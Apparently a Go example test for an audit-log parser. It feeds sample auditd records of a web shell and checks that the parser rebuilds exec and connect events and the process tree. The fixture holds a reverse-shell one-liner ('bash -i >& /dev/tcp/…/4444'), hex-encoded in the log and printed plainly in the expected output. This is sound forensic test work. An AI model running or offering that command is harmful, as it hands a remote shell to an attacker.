package parser_test

import (
	"fmt"
	"strings"

	"github.com/auditchain/auditchain/parser"
)

// An execve event of a web shell's shell, then a connect by its forked child:
// the reader reassembles records into events and builds the process tree.
func Example() {
	log := `type=SYSCALL msg=audit(1795641375.954:71): arch=c000003e syscall=59 success=yes exit=0 ppid=31688 pid=1603 auid=4294967295 uid=33 gid=33 euid=33 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/dash" key="www"` + "\x1d" + `UID="www-data"
type=EXECVE msg=audit(1795641375.954:71): argc=3 a0="sh" a1="-c" a2=62617368202D69203E26202F6465762F7463702F3132372E302E302E312F3434343420303E2631
type=PROCTITLE msg=audit(1795641375.954:71): proctitle=7368
type=SYSCALL msg=audit(1795641375.958:72): arch=c000003e syscall=42 success=yes exit=0 ppid=1603 pid=1605 auid=4294967295 uid=33 gid=33 euid=33 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/dash" key="net"
type=SOCKADDR msg=audit(1795641375.958:72): saddr=0200115C7F0000010000000000000000
type=PROCTITLE msg=audit(1795641375.958:72): proctitle=7368
`
	inputs, _ := parser.Resolve([]string{"-"}, strings.NewReader(log))
	r := parser.NewReader(inputs, parser.Options{Host: "web1"})
	r.All(func(ev *parser.Event) {
		switch ev.Kind {
		case parser.KindExec:
			fmt.Printf("exec serial=%d pid=%d user=%s %q\n", ev.Serial, ev.PID, ev.User, ev.Args)
		case parser.KindConnect:
			fmt.Printf("connect serial=%d pid=%d to %s\n", ev.Serial, ev.PID, ev.Peer)
		}
	})
	for _, p := range r.Tree().ByPID("web1", 1605) {
		anc, _ := r.Tree().Ancestors(p)
		fmt.Printf("pid %d forked as %q, parent %d, connected to %s\n", p.Key.PID, p.Execs[0].Args, anc[0].Key.PID, p.Peers[0])
	}
	// Output:
	// exec serial=71 pid=1603 user=www-data ["sh" "-c" "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"]
	// connect serial=72 pid=1605 to 127.0.0.1:4444
	// pid 1605 forked as ["sh" "-c" "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"], parent 1603, connected to 127.0.0.1:4444
}
